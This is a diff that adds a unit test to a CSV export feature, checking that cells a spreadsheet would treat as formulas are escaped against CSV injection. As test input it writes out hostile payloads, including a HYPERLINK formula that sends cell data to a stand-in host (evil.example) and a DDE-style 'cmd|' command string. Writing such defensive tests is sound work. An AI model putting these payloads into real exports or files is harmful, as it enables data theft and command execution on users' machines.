@@ -21,6 +21,23 @@ describe('CSV export', () => {
     expect(lines[250].startsWith('icreat:C000250,')).toBe(true)
   })
 
+  it('neutralises cells a spreadsheet would run as formulas (CSV injection), keeping the text otherwise identical', async () => {
+    const app = await createTestApp({ trials: 1 })
+    const attack = '=HYPERLINK("http://evil.example/?d="&A1,"상세 보기")'
+    Object.assign(app.core.trials[0], {
+      title: attack, titleEn: '+1+cmd|\' /C calc\'!A0', institution: '-2+3', department: '@SUM(1+1)*cmd', note: '\t=1+1',
+    })
+    const result = await app.handlers.exportCsv({ query: { withinDays: null }, language: 'en' })
+    const text = readFileSync((result as { data: { path: string } }).data.path, 'utf8')
+    const row = text.slice(1).split('\r\n')[1]
+    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""상세 보기"")"`)
+    expect(row).toContain("'+1+cmd|' /C calc'!A0")
+    expect(row).toContain(",'-2+3,'@SUM(1+1)*cmd,")
+    expect(row).toContain("'\t=1+1")
+    // No cell of the row starts with a formula character any more.
+    expect(row.split(',').some((cell) => /^"?[=+\-@\t\r]/.test(cell))).toBe(false)
+  })
+
   it('uses English headers on request, and writes nothing when the save dialog is cancelled', async () => {
     const app = await createTestApp({ trials: 3 })
     const result = await app.handlers.exportCsv({ query: {}, language: 'en' })
